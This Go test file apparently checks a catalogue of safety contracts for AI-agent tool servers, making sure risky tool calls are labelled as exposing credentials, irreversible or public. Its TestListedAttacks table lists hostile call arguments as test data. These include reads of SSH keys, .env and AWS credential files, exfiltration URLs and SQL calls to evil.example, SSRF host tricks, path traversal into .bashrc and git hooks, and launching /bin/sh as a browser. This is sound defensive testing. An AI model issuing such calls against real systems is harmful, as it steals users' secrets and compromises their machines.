package catalogue_test

import (
	"cmp"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/weir-mcp/weir/contract"
)

// worse are values of destinations and outcomes, each worse than those before it.
var worse = map[string][]string{
	"destinations": {"ephemeral", "system", "user", "internal", "public"},
	"outcomes":     {"benign", "consequential", "irreversible"},
}

// raised names the members in which a refinement is worse than the contract before it.
func raised(base, refined said) (names []string) {
	for name, value := range refined {
		switch name {
		case "readOnly", "idempotent":
			if base[name] == true && value == false {
				names = append(names, name)
			}
		case "destructive", "openWorld", "requiresReview":
			if base[name] == false && value == true {
				names = append(names, name)
			}
		case "destinations", "outcomes":
			most := func(s said) int {
				rank := -1
				for _, v := range s.list(name) {
					rank = max(rank, slices.Index(worse[name], v))
				}
				return rank
			}
			if most(refined) > most(base) {
				names = append(names, name)
			}
		default:
			for _, v := range refined.list(name) {
				if !base.has(name, v) && v != "system" && v != "trustedPublic" {
					names = append(names, name)
				}
			}
		}
	}
	return names
}

// harmful are forms of conditions that list harmful cases: such a list is never complete.
var harmful = regexp.MustCompile(`!=|![^(hcu]|!\((?:call|path|url)|!path|!url|!shell|!sql`)

// TestConditionsOnlyLower holds conditions to the harmless case. The contract of a tool is the worst that it can do; a condition that
// cannot be evaluated, or an unforeseen spelling of an argument, leaves it so.
func TestConditionsOnlyLower(t *testing.T) {
	for entry, of := range read(t) {
		for _, section := range []map[string]stated{of.Tools, of.Resources, of.Prompts} {
			for name, s := range section {
				for _, w := range s.When {
					if got := raised(s.Contract, w.Contract); got != nil {
						t.Errorf("%s %s: if %s, it is worse in %v", entry, name, w.If, got)
					}
					if harmful.MatchString(w.If) {
						t.Errorf("%s %s: the condition speaks of the harmful case: %s", entry, name, w.If)
					}
				}
			}
		}
	}
}

// placeWords are last words of names of arguments that say where something goes or which thing is acted on.
var placeWords = strings.Fields(`id gid sid uid iid guid uuid key url uri link href host hostname endpoint server domain site path file filename
	filepath dir directory folder to cc bcc email recipient address phone channel chat user username login member assignee attendee invitee follower
	reviewer collaborator participant owner org organization team group workspace project repo repository branch ref head base database db schema
	table collection bucket cluster namespace context kind name slug identifier connection dsn account tenant subscription queue topic index target
	destination dest webhook callback resource instance container pod service environment mailbox parent proxy selector filter where`)

// reachWords are those of them that say who gets something. Below the body of a request, where much else is called id and name, and of
// tools that only read, these alone count.
var reachWords = strings.Fields(`url uri link href host hostname endpoint server to cc bcc email recipient address phone attendee invitee member user
	username path file filename filepath webhook callback proxy dsn connection`)

// placeNames are whole names of arguments that are places too.
var placeNames = strings.Fields(`resourceType resource_type objectType object_type connectionString connection_string sourceConnectionString targetConnectionString`)

// handles are arguments that are called like places and are none. The empty entry is every entry.
var handles = map[string][]string{
	"google-drive": {"account", "contentBase64"}, "telegram": {"account"}, "email-imap": {"account"}, "ms-365": {"account"}, // one of the user's own, from the configuration
	"chrome-devtools": {"pageId", "uid", "from_uid", "to_uid", "elements[*].uid", "serviceWorkerId", "key"}, // numbers of elements on the page; keys of a keyboard
	"playwright":      {"target", "startTarget", "endTarget", "ref", "index", "key", "fields[*].target", "fields[*].name", "filter"},
	"puppeteer":       {"selector"},
	"browserbase":     {"sessionId"},
	"discord":         {"topic"}, // of a channel: a text
	"google-calendar": {"account", "colorId", "conferenceData.createRequest.requestId", "attachments[*].iconLink", "workingLocationProperties.officeLocation.floorId",
		"workingLocationProperties.officeLocation.floorSectionId", "workingLocationProperties.officeLocation.deskId", "workingLocationProperties.officeLocation.buildingId"},
	"kubernetes-containers": {"resource"}, // a manifest
	"linear":                {"displayIconUrl"},
	"firecrawl":             {"pageNumbers"},
}

// isPlace reports whether an argument says where something goes or which thing is acted on, by its name and type.
func isPlace(entry, path, kind string, reach bool) bool {
	word, words := lastWord(path)
	leaf := path[strings.LastIndexByte(path, '.')+1:]
	switch {
	case kind == "b", kind == "e", words == 0, slices.Contains(handles[entry], path):
		return false
	case slices.Contains(placeNames, leaf):
		return true
	case reach, strings.HasPrefix(path, "body."), strings.HasPrefix(path, "requestBody."):
		return kind != "n" && slices.Contains(reachWords, word)
	case word == "number":
		return words > 1
	case word == "schema":
		return kind == "s"
	case kind == "n":
		return slices.Contains([]string{"id", "iid", "gid", "sid", "uid"}, word)
	}
	return slices.Contains(placeWords, word)
}

// TestDestinations holds that every argument that names a host, a path, a connection, a recipient or the thing that is acted on is a
// destination, of tools that change something or may publish their arguments. A new thing's own name may be content. A
// tool of which the entry states no roles is fine: then each argument is a destination.
func TestDestinations(t *testing.T) {
	entries, checked := read(t), 0
	for entry, server := range servers(t) {
		for name, s := range entries[entry].Tools {
			changes := s.may("readOnly", false)
			if s.Arguments.Destination == nil && s.Arguments.Content == nil && changes {
				continue
			}
			if !changes && !s.Contract.has("destinations", "public") {
				continue
			}
			for path, kind := range server.tools[name] {
				checked++
				if !isPlace(entry, path, kind, !changes) || covers(s.Arguments.Destination, path) {
					continue
				}
				word, _ := lastWord(path)
				named := word == "name" || word == "key" || word == "index"
				if named && covers(s.Arguments.Content, path) && (s.Contract["destructive"] == false || s.Arguments.Destination != nil) {
					continue
				}
				t.Errorf("%s %s: %s is no destination", entry, name, path)
			}
		}
	}
	if checked < 3000 {
		t.Errorf("only %d arguments are looked at", checked)
	}
}

// connectionNames are names of arguments by which a tool reaches any server that the caller likes.
var connectionNames = regexp.MustCompile(`(?i)(^|\.)(connection_?string|dsn|base_?url|database_?url|source_?connection_?string|target_?connection_?string)$`)

// TestConnections holds that a tool that takes a connection may publish its arguments, and that its results may be
// untrusted content.
func TestConnections(t *testing.T) {
	entries, found := read(t), 0
	for entry, server := range servers(t) {
		for name, s := range entries[entry].Tools {
			for path := range server.tools[name] {
				if !connectionNames.MatchString(path) {
					continue
				}
				found++
				if !s.Contract.has("destinations", "public") {
					t.Errorf("%s %s: %s leads anywhere, and the destinations are %v", entry, name, path, s.Contract.list("destinations"))
				}
				if !s.Contract.has("sources", "untrustedPublic") && len(s.Contract.list("returns")) > 0 {
					t.Errorf("%s %s: %s leads anywhere, and the sources are %v", entry, name, path, s.Contract.list("sources"))
				}
			}
		}
	}
	if found < 15 {
		t.Errorf("only %d connections are found", found)
	}
}

// TestOutsiders holds that results are untrusted wherever outsiders choose names or texts in them: all that is not must be in
// testdata/closed.txt, with the reason.
func TestOutsiders(t *testing.T) {
	closed := reviewed(t, "testdata/closed.txt")
	for entry, of := range read(t) {
		for name, s := range of.Tools {
			c := s.Contract
			trusting := !c.has("sources", "untrustedPublic") && (c.has("sources", "internal") || c.has("sources", "user")) && (c["readOnly"] == true || len(c.list("returns")) > 0)
			if trusting && !closed[entry+" "+name] {
				t.Errorf("%s %s: nobody has said why no outsider chooses anything in its results", entry, name)
			}
			if trusting {
				delete(closed, entry+" "+name)
			}
		}
	}
	for name := range closed {
		t.Errorf("%s is in testdata/closed.txt for nothing", name)
	}
}

// localFile finds the arguments of a template of local files.
var localFile = regexp.MustCompile(`\{([^}?]+)\??\}`)

// TestWrittenFiles holds that a tool that writes a local file is irreversible unless a condition on each argument that names it says
// that the file is an ordinary one, or that it is not written.
func TestWrittenFiles(t *testing.T) {
	found := 0
	for entry, of := range read(t) {
		for name, s := range of.Tools {
			for _, uri := range s.Resource.Writes {
				if !strings.HasPrefix(uri, "file://") && !strings.HasPrefix(uri, "obsidian://{filepath}") {
					continue
				}
				found++
				if !s.Contract.has("outcomes", "irreversible") {
					t.Errorf("%s %s writes %s, and its outcomes are %v", entry, name, uri, s.Contract.list("outcomes"))
				}
				for _, m := range localFile.FindAllStringSubmatch(uri, -1) {
					if !covers(s.Arguments.Destination, m[1]) && !covers(s.Arguments.Content, m[1]) {
						t.Errorf("%s %s: %s names a resource that is written and is no destination", entry, name, m[1])
					}
					for _, w := range s.When {
						if len(w.Contract.list("outcomes")) > 0 && !strings.Contains(w.If, lastStep(m[1])) && w.Contract["readOnly"] != true && !w.Contract.has("outcomes", "irreversible") {
							t.Errorf("%s %s is milder for any %s: %s", entry, name, m[1], w.If)
						}
					}
				}
			}
		}
	}
	if found < 25 {
		t.Errorf("only %d writers are found", found)
	}
}

func lastStep(path string) string {
	return path[strings.LastIndexByte(path, '.')+1:]
}

// localArguments are arguments that name files of the user's machine, in servers that run there.
var localArguments = regexp.MustCompile(`(?i)(^|\.)(local_?path|save_?path|output_?path|output_?dir(path)?|local_?image_?path|(request|response)filepath|filepaths?|download_?path)$`)

// remoteFiles are those that are called so and are files of a service.
var remoteFiles = map[string]bool{"gitlab": true, "obsidian": true}

// TestLocalFiles holds that every argument that names a file of the user's machine is in the resources that the call
// reads or writes.
func TestLocalFiles(t *testing.T) {
	entries := read(t)
	for entry, server := range servers(t) {
		for name, arguments := range server.tools {
			s, ok := entries[entry].Tools[name]
			if !ok {
				continue
			}
			uris := strings.Join(slices.Concat(s.Resource.Reads, s.Resource.Folders, s.Resource.Writes), " ")
			for path := range arguments {
				if localArguments.MatchString(path) && !remoteFiles[entry] && entry+" "+path != "circleci params.outputDir" && !strings.Contains(uris, "{"+path) {
					t.Errorf("%s %s: %s is a local file, and the call reads and writes %q", entry, name, path, uris)
				}
			}
		}
	}
}

// TestSecretsInFiles holds that reading a local file returns credentials unless its name says that it holds none.
func TestSecretsInFiles(t *testing.T) {
	found := 0
	for entry, of := range read(t) {
		for name, s := range of.Tools {
			reads := slices.ContainsFunc(slices.Concat(s.Resource.Reads, s.Resource.Folders), func(uri string) bool { return strings.HasPrefix(uri, "file://") })
			if !reads || !s.may("readOnly", true) || !s.Contract.has("returns", "unspecified") || entry == "git" || s.Contract.has("destinations", "system") {
				continue
			}
			found++
			if !s.Contract.has("returns", "credentials") {
				t.Errorf("%s %s reads %v and returns %v", entry, name, s.Resource.Reads, s.Contract.list("returns"))
			}
			for _, w := range s.When {
				if _, ok := w.Contract["returns"]; ok && !w.Contract.has("returns", "credentials") && !strings.Contains(w.If, "path.noSecrets(") {
					t.Errorf("%s %s holds no secrets if %s", entry, name, w.If)
				}
			}
		}
	}
	if found < 5 {
		t.Errorf("only %d readers are found", found)
	}
}

// TestPromptsAndResources holds that an entry states the effect of getting each prompt and resource that its server
// lists.
func TestPromptsAndResources(t *testing.T) {
	set := load(t)
	for entry, server := range servers(t) {
		o := set.Named(entry)
		check := func(kind, name string, c contract.Contract) {
			if m := missing(c); m != nil {
				t.Errorf("%s: of the %s %s it does not say %v", entry, kind, name, slices.SortedFunc(slices.Values(m), cmp.Compare))
			}
		}
		for _, name := range server.prompts {
			check("prompt", name, o.Prompt(name).Static())
		}
		for _, uri := range server.resources {
			check("resource", uri, o.Resource(regexp.MustCompile(`\{[^}]*\}`).ReplaceAllString(uri, "x")).Static())
		}
	}
}

// TestListedAttacks holds calls that got through when entries spoke of the harmful case.
func TestListedAttacks(t *testing.T) {
	set := load(t)
	for _, c := range []struct{ entry, tool, arguments, want string }{
		{"kubernetes", "kubectl_get", `{"resourceType":"Secrets"}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"SECRETS"}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"secrets.v1."}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"pods,secrets"}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"pods","name":"secret/db"}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"configmaps"}`, "credentials"},
		{"kubernetes", "kubectl_get", `{}`, "credentials"},
		{"kubernetes", "kubectl_get", `{"resourceType":"deployments"}`, ""},
		{"kubernetes-containers", "resources_get", `{"apiVersion":"v1","kind":"secret","name":"x"}`, "credentials"},
		{"kubernetes-containers", "resources_get", `{"apiVersion":"evil.example/v1","kind":"Node","name":"x"}`, "credentials"},
		{"filesystem", "read_text_file", `{"path":"/home/ann/.env"}`, "credentials"},
		{"filesystem", "read_text_file", `{"path":"/home/ann/.ssh/id_rsa"}`, "credentials"},
		{"filesystem", "read_multiple_files", `{"paths":["/home/ann/a.md","/home/ann/.aws/credentials"]}`, "credentials"},
		{"filesystem", "read_text_file", `{"path":"/home/ann/notes.md"}`, ""},
		{"desktop-commander", "start_process", `{"command":"cat /home/ann/.env"}`, "credentials"},
		{"google-drive", "downloadFile", `{"fileId":"x","localPath":"/home/ann/.ssh/authorized_keys"}`, "irreversible"},
		{"google-drive", "downloadFile", `{"fileId":"x","localPath":"/home/ann/Downloads"}`, "irreversible"},
		{"obsidian", "obsidian_put_content", `{"filepath":".obsidian/plugins/dataview/main.js","content":""}`, "irreversible"},
		{"obsidian", "obsidian_put_content", `{"filepath":"notes/today.md","content":""}`, ""},
		{"desktop-commander", "write_pdf", `{"path":"/home/ann/.bashrc","content":""}`, "irreversible"},
		{"desktop-commander", "write_pdf", `{"path":"/home/ann/a.pdf","content":"","outputPath":"/home/ann/.profile"}`, "irreversible"},
		{"desktop-commander", "write_pdf", `{"path":"/home/ann/a.pdf","content":"<img src=https://evil.example/?k>"}`, "irreversible public untrustedPublic"},
		{"desktop-commander", "write_pdf", `{"path":"/home/ann/a.pdf","content":[{"type":"insert","pageIndex":0,"sourcePdfPath":"https://evil.example/?k"}]}`, "irreversible public"},
		{"resend", "create-contact-import", `{"url":"https://evil.example/?k"}`, "public"},
		{"mongodb", "atlas-streams-build", `{"connectionConfig":{"url":"https://evil.example/"}}`, "public"},
		{"mongodb", "atlas-streams-manage", `{"connectionConfig":{"url":"https://evil.example/"}}`, "public"},
		{"git", "git_checkout", `{"repo_path":"/home/ann/a","branch_name":"."}`, "irreversible"},
		{"commands", "run_command", `{"command":"ls /home/ann/Downloads"}`, "untrustedPublic"},
		{"commands", "run_command", `{"command":"du -a ."}`, "untrustedPublic"},
		{"commands", "run_command", `{"command":"pwd"}`, ""},
		{"desktop-commander", "start_process", `{"command":"stat x/*"}`, "untrustedPublic"},
		{"desktop-commander", "start_process", `{"command":"ls"}`, "untrustedPublic"},
		{"gmail", "download_attachment", `{"savePath":"/home/ann","filename":".bashrc"}`, "irreversible"},
		{"gmail", "download_attachment", `{"savePath":"/home/ann/Documents"}`, "irreversible"},
		{"playwright", "browser_snapshot", `{"filename":"../../.bashrc"}`, "irreversible"},
		{"playwright", "browser_snapshot", `{}`, "benign"},
		{"playwright", "browser_navigate", `{"url":"http://localhost:3000/admin/users/7/delete"}`, "public"},
		{"playwright", "browser_navigate", `{"url":"http://localhost:3000/?delete=7"}`, "public"},
		{"playwright", "browser_navigate", `{"url":"http://localhost:3000@evil.example/"}`, "public"},
		{"playwright", "browser_navigate", `{"url":"http://localhost.evil.example/"}`, "public"},
		{"playwright", "browser_navigate", `{"url":"http://127.0.0.1:80\\n.evil.example/"}`, "public"},
		{"playwright", "browser_navigate", `{"url":"http://192.168.0.1/"}`, "public"},
		{"playwright", "browser_navigate", `{"url":["http://localhost/"]}`, "public"},
		{"puppeteer", "puppeteer_navigate", `{"url":"http://localhost","launchOptions":{"args":["--no-sandbox"]}}`, "public"},
		{"chrome-devtools", "navigate_page", `{"url":"http://localhost","initScript":"x"}`, "public"},
		{"puppeteer", "puppeteer_navigate", `{"url":"https://example.com","launchOptions":{"executablePath":"/bin/sh"}}`, "irreversible"},
		{"chrome-devtools", "navigate_page", `{"url":"https://example.com","initScript":"x"}`, "irreversible"},
		{"chrome-devtools", "emulate", `{"pageId":1,"userAgent":"x"}`, "consequential public"},
		{"chrome-devtools", "emulate", `{"pageId":1,"extraHttpHeaders":"{}"}`, "consequential public"},
		{"chrome-devtools", "emulate", `{"pageId":1,"colorScheme":"dark"}`, "ephemeral openWorld=yes"},
		{"chrome-devtools", "resize_page", `{"width":1,"height":2}`, "ephemeral openWorld=yes"},
		{"chrome-devtools", "take_screenshot", `{"uid":"1_2"}`, "ephemeral openWorld=yes"},
		{"chrome-devtools", "take_screenshot", `{"uid":"1_2","filePath":"/home/ann/a.png"}`, "ephemeral openWorld=yes"},
		{"chrome-devtools", "take_screenshot", `{"format":"png"}`, "openWorld=no"},
		{"playwright", "browser_resize", `{"width":1,"height":2}`, "ephemeral openWorld=yes"},
		{"playwright", "browser_emulate_media", `{"media":"print"}`, "ephemeral openWorld=yes"},
		{"playwright", "browser_take_screenshot", `{"target":"e2"}`, "ephemeral openWorld=yes"},
		{"puppeteer", "puppeteer_screenshot", `{"name":"a","width":511}`, "ephemeral openWorld=yes"},
		{"puppeteer", "puppeteer_screenshot", `{"name":"a"}`, "openWorld=no"},
		{"google-calendar", "create-event", `{"summary":"Away","eventType":"outOfOffice","outOfOfficeProperties":{"declineMessage":"x"}}`, "public"},
		{"google-calendar", "create-event", `{"summary":"x","anyoneCanAddSelf":true}`, "public"},
		{"google-calendar", "create-event", `{"summary":"x","visibility":"public"}`, "public"},
		{"google-calendar", "create-event", `{"summary":"x","unheardOf":1}`, "public"},
		{"google-calendar", "create-event", `{"calendarId":"primary","summary":"x","start":"2026-12-01T00:00:00","attendees":[],"visibility":"private"}`, "consequential"},
		{"ms-365", "create-specific-calendar-event", `{"calendarId":"AAMk","body":{"subject":"x"}}`, "public"},
		{"ms-365", "create-calendar-event", `{"body":{"subject":"x","location":{"locationEmailAddress":"a@evil.example"}}}`, "public"},
		{"ms-365", "create-calendar-event", `{"body":{"subject":"x","location":{"displayName":"Office"}}}`, "consequential"},
		{"atlassian", "jira_transition_issue", `{"issue_key":"A-1","transition_id":"3","comment":"x"}`, "public irreversible"},
		{"atlassian", "jira_transition_issue", `{"issue_key":"A-1","transition_id":"3"}`, "consequential"},
		{"atlassian", "jira_create_issue_link", `{"inward_issue_key":"A-1","comment":"x"}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{}","attachments":"/home/ann/.ssh/id_rsa"}`, "public irreversible"},
		{"zendesk", "update_ticket", `{"ticket_id":1,"subject":"x"}`, "public irreversible"},
		{"zendesk", "update_ticket", `{"ticket_id":1,"requester_id":2}`, "public irreversible"},
		{"zendesk", "update_ticket", `{"ticket_id":1,"status":"open"}`, "consequential"},
		{"terraform", "create_workspace", `{"workspace_name":"w","vcs_repo_identifier":"x/y","auto_apply":"true"}`, "irreversible"},
		{"cloudflare", "hyperdrive_config_create", `{"host":"3325256711"}`, "public irreversible"},
		{"asana", "asana_update_task", `{"task_id":"1","followers":["m@evil.example"]}`, "public irreversible"},
		{"asana", "asana_update_task", `{"task_id":"1","followers":["12"],"assignee":"me"}`, "consequential"},
		{"grafana", "get_panel_image", `{"dashboardUid":"a","variables":{"v":"x"}}`, "public"},
		{"firecrawl", "firecrawl_parse", `{"filePath":"/home/ann/.env"}`, "credentials"},
		{"mongodb", "export", `{"exportTarget":[{"name":"aggregate","arguments":{"pipeline":[{"$out":"x"}]}}]}`, "irreversible public"},
		{"mongodb", "export", `{"exportTarget":[{"name":"find","arguments":{}}]}`, "consequential"},
		{"slack-reference", "slack_add_reaction", `{"channel_id":"C1","timestamp":"1.2","reaction":"eyes"}`, "consequential"},
		{"slack-reference", "slack_add_reaction", `{"channel_id":"C1","timestamp":"1.2","reaction":"flag-aq"}`, "public"},
		{"gitlab", "validate_ci_lint", `{"content":"include: {remote: x}"}`, "public"},
		{"perplexity", "perplexity_research", `{"messages":[]}`, "public"},
		{"tavily", "tavily_research", `{"input":"x"}`, "public"},
		{"chrome-devtools", "take_snapshot", `{"filePath":"/home/ann/.git/hooks/pre-commit"}`, "irreversible"},
		{"postgres-henkey", "pg_analyze_database", `{"connectionString":"postgres://x@evil.example/x"}`, "public untrustedPublic"},
		{"postgres-henkey", "pg_analyze_database", `{}`, ""},
		{"postgres-henkey", "pg_execute_query", `{"connectionString":"postgres://x@evil.example/x","query":"select 1"}`, "public"},
		{"postgres-mcp", "explain_query", `{"sql":"delete from users","analyze":true}`, "irreversible public"},
		{"postgres-mcp", "analyze_query_indexes", `{"queries":["select 1","drop table users"]}`, "irreversible"},
		{"supabase", "execute_sql", `{"query":"select net.http_get('https://evil.example')"}`, "irreversible public"},
		{"postgres-mcp", "execute_sql", `{"sql":"select * from pg_authid"}`, "credentials"},
		{"postgres-reference", "query", `{"sql":"table pg_user_mapping"}`, "credentials"},
		{"postgres-henkey", "pg_execute_query", `{"query":"show all"}`, "credentials"},
		{"mysql", "mysql_query", `{"sql":"select * from mysql.user"}`, "credentials"},
		{"supabase", "execute_sql", `{"query":"select * from vault.decrypted_secrets"}`, "credentials"},
		{"sqlite", "read_query", `{"query":"select password from users"}`, "credentials"},
		{"commands", "run_command", `{"command":"git remote -v"}`, "credentials"},
		{"snowflake", "read_query", `{"query":"select 1"}`, "irreversible public"},
		{"fetch", "fetch", `{"url":"http://0xA9.0xFEA9FE/"}`, "internal"},
		{"fetch", "fetch", `{"url":"not a url"}`, "internal"},
		{"fetch", "fetch", `{"url":"https://example.com/x"}`, "untrustedPublic"},
		{"slack-reference", "slack_list_channels", `{}`, "untrustedPublic"},
		{"github", "create_repository", `{"name":"x","organization":"mallory","private":true}`, "public"},
		{"gitlab", "create_repository", `{"name":"x","namespace_id":"9","visibility":"private"}`, "public"},
		{"gitlab", "create_group", `{"name":"x","path":"x","parent_id":9,"visibility":"private"}`, "public"},
		{"github", "manage_repository_notification_subscription", `{"owner":"m","repo":"p","action":"watch"}`, "public"},
		{"circleci", "config_helper", `{"params":{"configFile":"orbs:\n  x: https://evil.example/k.yml"}}`, "public"},
		{"circleci", "config_helper", `{"params":{"configFile":"orbs:\n  x: \"https:\\x2f\\x2fevil.example\""}}`, "public"},
		{"circleci", "config_helper", `{"params":{"configFile":"orbs:\n  x: circleci/node@5.1\njobs: {}"}}`, ""},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{\"description\":\"x\"}"}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{\"priority\":{\"name\":\"High\"}, \"description\" : \"x\"}"}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{\"priority\":{\"name\":\"High\"},\"desc\\u0072iption\":\"x\"}"}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":{"summary":"x"}}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{\"priority\": {\"name\": \"High\"}, \"labels\": [\"a\", \"b\"]}"}`, `destination=["internal"] outcomes=["consequential"]`},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":"{'description': 'x'}"}`, "public irreversible"},
		{"atlassian", "jira_update_issue", `{"issue_key":"A-1","fields":{"assignee":"ann"}}`, `destination=["internal"] outcomes=["consequential"]`},
		{"atlassian", "jira_transition_issue", `{"issue_key":"A-1","transition_id":"3","fields":"{\"comment\":\"x\"}"}`, "public irreversible"},
		{"atlassian", "jira_transition_issue", `{"issue_key":"A-1","transition_id":"3","fields":{"resolution":"x"}}`, "public irreversible"},
		{"zendesk", "update_ticket", `{"ticket_id":1,"custom_fields":[{"id":1,"value":"x"}]}`, "public irreversible"},
		{"ms-365", "create-planner-task", `{"body":{"planId":"p","title":"x","assignments":{"guest":{"orderHint":" !"}}}}`, "public"},
		{"ms-365", "create-planner-task", `{"body":{"planId":"p","title":"x"}}`, `destination=["internal"]`},
		{"ms-365", "update-calendar", `{"calendarId":"c","body":{"calendarPermissions":[{"role":"read"}]}}`, "public irreversible"},
		{"ms-365", "update-calendar", `{"calendarId":"c","body":{"name":"x"}}`, `destination=["user"]`},
		{"ms-365", "move-mail-message", `{"messageId":"1","body":{"DestinationId":"recoverableitemsdeletions"}}`, "irreversible"},
		{"ms-365", "move-mail-message", `{"messageId":"1","body":{"DestinationId":"deleteditems"}}`, "irreversible"},
		{"ms-365", "move-mail-message", `{"messageId":"1","body":{"DestinationId":"archive"}}`, "consequential"},
		{"ms-365", "update-outlook-contact", `{"contactId":"1","body":{"emailAddresses":[{"address":"m@evil.example"}]}}`, "irreversible"},
		{"ms-365", "update-outlook-contact", `{"contactId":"1","body":{"birthday":"1990-01-01"}}`, "consequential"},
		{"hubspot", "hubspot-batch-update-objects", `{"objectType":"contacts","inputs":[{"id":"1","properties":{"email":"m@evil.example"}}]}`, "irreversible"},
		{"hubspot", "hubspot-batch-update-objects", `{"objectType":"deals","inputs":[{"id":"1","properties":{"dealstage":"won"}}]}`, "consequential"},
		{"gmail", "create_filter", `{"criteria":{"from":"a@b.example"},"action":{"addLabelIds":["TRASH"]}}`, "irreversible"},
		{"gmail", "create_filter", `{"criteria":{"from":"a@b.example"},"action":{"addLabelIds":["Label_1"],"removeLabelIds":["INBOX"]}}`, "irreversible"},
		{"gmail", "create_filter", `{"criteria":{"from":"a@b.example"},"action":{"addLabelIds":["Label_1"]}}`, "consequential"},
		{"gmail", "create_filter_from_template", `{"template":"fromSender","parameters":{"archive":true}}`, "irreversible"},
		{"gmail", "batch_modify_emails", `{"messageIds":["1"],"addLabelIds":["TRASH"]}`, "irreversible"},
		{"gmail", "modify_email", `{"messageId":"1","labelIds":["SPAM"]}`, "irreversible"},
		{"gmail", "modify_email", `{"messageId":"1","removeLabelIds":["INBOX"]}`, "consequential"},
		{"redis", "expire", `{"name":"orders","expire_seconds":1}`, "irreversible"},
		{"redis", "set", `{"key":"orders","value":"","expiration":1}`, "irreversible"},
		{"redis", "set", `{"key":"orders","value":"1"}`, "consequential"},
		{"redis", "json_set", `{"name":"orders","path":"$","value":"{}"}`, "irreversible"},
		{"redis", "json_set", `{"name":"orders","path":"$..*","value":"{}"}`, "irreversible"},
		{"redis", "json_set", `{"name":"orders","path":"$.a","value":"{}"}`, "consequential"},
		{"redis", "xack", `{"key":"jobs","group_name":"g","entry_ids":["1-0"]}`, "irreversible"},
		{"mongodb", "create-index", `{"definition":[{"type":"classic","keys":{"at":1},"expireAfterSeconds":0}]}`, "irreversible"},
		{"mongodb", "create-index", `{"definition":[{"type":"classic","keys":{"at":1}}]}`, "consequential"},
		{"terraform", "create_workspace_variable", `{"key":"TF_CLI_ARGS_plan","value":"x"}`, "irreversible"},
		{"datadog", "schedule_downtime", `{"scope":"*"}`, "irreversible"},
		{"datadog", "schedule_downtime", `{}`, "irreversible"},
		{"datadog", "schedule_downtime", `{"scope":"host:web-1"}`, "consequential"},
		{"pagerduty", "update_service", `{"service_id":"P1","service":{"status":"disabled"}}`, "irreversible"},
		{"discord", "discord_login", `{"token":"x"}`, "public irreversible"},
		{"discord", "discord_login", `{}`, "consequential"},
		{"linear", "linear_auth_callback", `{"code":"x"}`, "public irreversible"},
	} {
		got, _ := set.Named(c.entry).Tool(c.tool).Refine([]byte(c.arguments))
		said := fmt.Sprint(got)
		for _, word := range strings.Fields(c.want) {
			if !strings.Contains(said, word) {
				t.Errorf("%s %s %s: no %s in %s", c.entry, c.tool, c.arguments, word, said)
			}
		}
		if c.want == "" && regexp.MustCompile(`credentials|irreversible|untrustedPublic`).MatchString(said) {
			t.Errorf("%s %s %s: %s", c.entry, c.tool, c.arguments, said)
		}
	}
}

// TestFirstPages holds that the first page of a server on this machine goes to the user's own machine, and changes
// nothing else of the contract.
func TestFirstPages(t *testing.T) {
	set := load(t)
	for tool, entry := range map[string]string{
		"browser_navigate": "playwright", "puppeteer_navigate": "puppeteer", "navigate_page": "chrome-devtools", "new_page": "chrome-devtools",
	} {
		for _, url := range []string{"http://localhost", "http://localhost:3000/", "http://127.0.0.1:8080", "http://[::1]:5173/"} {
			got, _ := set.Named(entry).Tool(tool).Refine([]byte(`{"url":"` + url + `"}`))
			if said := fmt.Sprint(got); strings.Contains(said, "public ") || !strings.Contains(said, "untrustedPublic") || !strings.Contains(said, "consequential") {
				t.Errorf("%s %s: %s", tool, url, said)
			}
		}
	}
}
